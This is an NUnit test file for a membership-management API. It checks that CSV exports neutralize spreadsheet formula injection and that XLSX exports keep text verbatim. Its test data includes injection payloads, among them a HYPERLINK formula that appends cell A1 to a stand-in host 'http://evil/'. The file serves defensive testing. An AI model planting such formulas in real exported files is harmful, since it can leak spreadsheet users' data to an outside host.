using System.Net;
using System.Text;
using Jiceng.Infrastructure.Database;
using Jiceng.Tests.Support;

namespace Jiceng.Tests.Http;

/// <summary>
/// Every export route in the OpenAPI document (so a new one is covered without touching this test), as CSV, over
/// rows whose names, organization names, transfer destination and meeting topic are formulas: no cell may begin
/// with a character a spreadsheet reads as a formula, and the text is still there behind a leading quote.
/// </summary>
[TestFixtureSource(typeof(TestDatabases), nameof(TestDatabases.Providers))]
public sealed class CsvInjectionTests(DatabaseProvider provider) : ApiTest(provider)
{
    private static readonly string[] Formulas =
    [
        "=1+1",
        "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
        "@SUM(1)",
        "-2+3",
        "+1",
    ];

    private static readonly string[] ListKinds =
    [
        "PoliticalBirthdays",
        "MedalCandidates",
        "LostContact",
        "ExpiringProbations",
    ];

    [Test]
    public async Task No_csv_export_has_a_cell_that_starts_a_formula()
    {
        var region = await CreateOrganization(Unique("=1+1市委"), kind: "Committee", field: "Government");
        var branch = (await CreateOrganization("=1+1党支部", region.Id())).Id();
        var community = (await CreateOrganization("@SUM(1)社区", region.Id())).Id();
        var members = new List<Guid>();
        foreach (var name in Formulas)
        {
            // Joined in June 1975: on the political-birthday list of June and 光荣在党50年 in 2026.
            members.Add(await RegisterMember(NewMember.Full(branch, name, "1950-02-02", "1975-06-10", "1976-06-10")));
        }
        await Json.Read(
            await Post(
                $"/api/v1/members/{members[0]}/transfers",
                new { toExternal = "=HYPERLINK(\"http://evil/\")", letterNumber = Unique("-1+1") }
            ),
            HttpStatusCode.Created
        );
        await Json.Read(
            await Post(
                $"/api/v1/members/{members[1]}/community-reports",
                new { communityOrganizationId = community, reportedOn = "2026-03-01" }
            ),
            HttpStatusCode.Created
        );
        await Json.Read(
            await Post(
                "/api/v1/members/meetings",
                new
                {
                    organizationId = branch,
                    kind = "GeneralMeeting",
                    heldOn = "2026-05-20",
                    topic = "=1+1",
                    attendeeIds = new[] { members[1] },
                }
            ),
            HttpStatusCode.Created
        );

        var document = await Json.Read(await Get("/swagger/v1/swagger.json"), HttpStatusCode.OK);
        var exports = document
            .GetProperty("paths")
            .EnumerateObject()
            .Select(p => p.Name)
            .Where(p => p.EndsWith("/export", StringComparison.Ordinal))
            // An export of one object's rows (a visit list's visits, a plan's payouts) needs that object; those go
            // through the same ListExport writer and their modules' tests read their CSV.
            .Where(p => !p.Replace("{kind}", "", StringComparison.Ordinal).Contains('{', StringComparison.Ordinal))
            .ToList();
        var urls = exports
            .SelectMany(p =>
                p.Contains("{kind}", StringComparison.Ordinal)
                    ? ListKinds.Select(k => p.Replace("{kind}", k, StringComparison.Ordinal))
                    : [p]
            )
            .Select(p =>
                $"{p}?format=Csv&organizationId={branch}&communityOrganizationId={community}"
                + "&month=6&year=2026&direction=Outbox"
            )
            .ToList();
        var offending = new List<string>();
        var cells = new List<string>();
        foreach (var url in urls)
        {
            var response = await Get(url);
            var text = await response.Content.ReadAsStringAsync();
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.OK), $"{url}: {text}");
            Assert.That(response.Content.Headers.ContentType!.MediaType, Is.EqualTo("text/csv"), url);
            foreach (var row in ParseCsv(text.TrimStart('\uFEFF')).Skip(1))
            {
                cells.AddRange(row);
                offending.AddRange(
                    row.Where(c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r')
                        .Select(c => $"{url}: {c}")
                );
            }
        }

        Assert.Multiple(() =>
        {
            Assert.That(exports, Has.Count.GreaterThanOrEqualTo(5), "the export routes were found");
            Assert.That(offending, Is.Empty, string.Join("\n", offending.Take(10)));
            // The data reached the files, neutralized rather than dropped.
            Assert.That(cells, Is.SupersetOf(Formulas.Select(f => "'" + f)));
            Assert.That(cells, Does.Contain("'=1+1党支部"));
            Assert.That(cells, Does.Contain("'@SUM(1)社区"));
            Assert.That(cells, Does.Contain("'=HYPERLINK(\"http://evil/\")"));
            // A number is still a number: the meeting's attendee count.
            Assert.That(cells, Does.Contain("1"));
        });
    }

    [Test]
    public async Task An_xlsx_export_keeps_the_text_as_typed()
    {
        var branch = (await CreateOrganization(Unique("表格党支部"))).Id();
        await RegisterMember(NewMember.Full(branch, "=1+1", "1950-02-02", "1975-06-10", "1976-06-10"));

        var response = await Get($"/api/v1/members/export?organizationId={branch}");
        using var stream = new MemoryStream(await response.Content.ReadAsByteArrayAsync());
        var rows = MiniExcelLibs
            .MiniExcel.Query(stream, useHeaderRow: true)
            .Cast<IDictionary<string, object?>>()
            .ToList();

        Assert.That(rows.Select(r => r["姓名"]), Is.EqualTo(new[] { "=1+1" }));
    }

    /// <summary>RFC 4180: commas and line breaks inside double quotes, a doubled quote for a quote.</summary>
    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\n')
            {
                row.Add(cell.ToString().TrimEnd('\r'));
                cell.Clear();
                rows.Add(row);
                row = [];
            }
            else
            {
                cell.Append(c);
            }
        }
        if (cell.Length > 0 || row.Count > 0)
        {
            row.Add(cell.ToString());
            rows.Add(row);
        }
        return rows;
    }
}
